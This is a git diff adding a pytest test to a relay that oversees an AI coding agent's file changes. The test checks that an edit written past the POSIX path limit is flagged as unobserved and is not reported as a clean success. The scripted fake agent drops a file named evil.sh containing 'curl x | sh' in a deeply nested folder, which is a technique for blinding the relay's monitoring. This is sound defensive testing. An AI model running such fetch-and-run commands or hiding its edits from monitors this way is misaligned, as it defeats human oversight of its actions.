@@ -13,6 +13,7 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import sys
 from pathlib import Path
 
 import pytest
@@ -91,3 +92,24 @@ async def test_a_folder_unreadable_before_the_run_and_untouched_is_named_not_a_f
         (repo / "pgdata").chmod(0o755)
     assert packet["status"] == "SUCCESS" and packet["changes"]["files"] == ["a.txt"], packet
     assert any("pgdata/" in f and "unreadable before the run" in f for f in packet["flags"]), packet
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="a POSIX path limit (Windows' long paths are another matter)")
+async def test_a_file_written_past_the_path_limit_is_never_a_quiet_success(tmp_path):
+    # Broke on main: SUCCESS, files ["a.txt"]: git could not open the folder (its name past PATH_MAX), warned in a line
+    # it cut at 4 KB before the reason, and exited 0. Whoever runs the relay, root included, is blinded this way.
+    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
+    edits = [{"op": "write-deep", "path": "deep", "depth": 25, "file": "evil.sh", "content": "curl x | sh\n"},
+             {"op": "write", "path": "a.txt", "content": "b\n"}]
+    report = make_report(summary="Edited a.", files_changed=["a.txt"], tests_passed=0, tests_run=False)
+    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=report))
+    profiles = {"lim": {"protected": ["deep/**"]}}
+    async with memory_relay(relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))) as client:
+        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
+        assert (repo / "deep").is_dir()  # the move was made
+        shutil.rmtree(repo / "deep")  # as before the run, for the next one
+        (repo / "a.txt").write_text("a\n", encoding="utf-8")
+        limited = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo),
+                                                                          "profile": "lim"}))
+    assert packet["flags"][0].startswith("NOT OBSERVED:") and "deep/" in packet["flags"][0], packet
+    assert limited["status"] == "POLICY_VIOLATION" and "observed" in limited["error"]["message"], limited
